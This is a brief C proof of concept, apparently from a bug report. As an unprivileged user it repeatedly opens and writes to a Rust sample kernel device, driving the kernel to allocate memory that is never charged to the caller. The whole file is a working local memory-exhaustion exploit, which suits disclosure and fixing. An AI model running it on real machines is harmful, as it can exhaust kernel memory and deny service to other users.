/* What it attacks: what a user of a sample takes is charged to that user (rust_hmm_mirror.rs says so of itself). A
 * write to this device takes 24 bytes for each page of a range of 1 GiB, and nobody is charged for them. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>
int main(int argc, char **argv)
{
	int n, count = atoi(argv[1]);
	if (setuid(65534)) return 1;
	for (n = 0; n < count; n++) {
		uint64_t range[2] = { 0x100000000ULL, 1 << 30 };
		int d = open("/dev/rust-interval-notifier", O_RDWR);
		if (d < 0 || write(d, range, 16) != 16) { perror("rust-interval-notifier"); break; }
	}
	printf("%d files\n", n);
	fflush(stdout);
	sleep(10);
	return 0;
}
